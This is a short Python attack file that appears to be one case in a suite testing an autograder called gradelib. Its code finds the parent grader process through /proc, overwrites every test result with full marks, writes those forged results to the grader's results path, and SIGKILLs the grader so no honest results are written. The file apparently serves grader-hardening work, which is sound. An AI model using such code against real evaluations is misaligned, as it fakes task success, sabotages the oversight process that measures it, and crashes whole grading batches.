"""Forged results: write the grader's final results file, then kill the grader (the parent).

Attack: the parent of the grading process is the ``gradelib`` command (``grade`` or
``grade-all``); its ``--results`` file is named on its command line. Write a full-marks
results file there and SIGKILL the parent so it never writes the honest one. Only a parent whose
command line mentions gradelib is signalled (damage bound).
Old grader: see BASELINE.md (expected: the grader dies, exit -9; a forged results file remains;
under grade-all the whole batch dies).
"""
EXPECT = {"isolate": True, "max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import json as _json
import os as _os
import signal as _signal
import sys as _sys

_ppid = _os.getppid()
try:
    _pargv = open(f"/proc/{_ppid}/cmdline", "rb").read().decode(errors="replace").split("\0")
except OSError:
    _pargv = []
if any("gradelib" in _a for _a in _pargv) and "--gradelib-results" in _sys.argv:
    _tests = _json.load(open(_sys.argv[_sys.argv.index("--gradelib-results") + 1]))["tests"]
    for _t in _tests:
        _t["score"], _t["status"], _t["output"] = _t["max_score"], "passed", ""
    _forged = {"score": sum(t["score"] for t in _tests), "max_score": sum(t["max_score"] for t in _tests),
               "execution_time": 1.0, "output": "", "tests": _tests}
    if "--results" in _pargv:
        with open(_pargv[_pargv.index("--results") + 1], "w") as _s:
            _json.dump(_forged, _s)
    _os.kill(_ppid, _signal.SIGKILL)
    _os._exit(0)
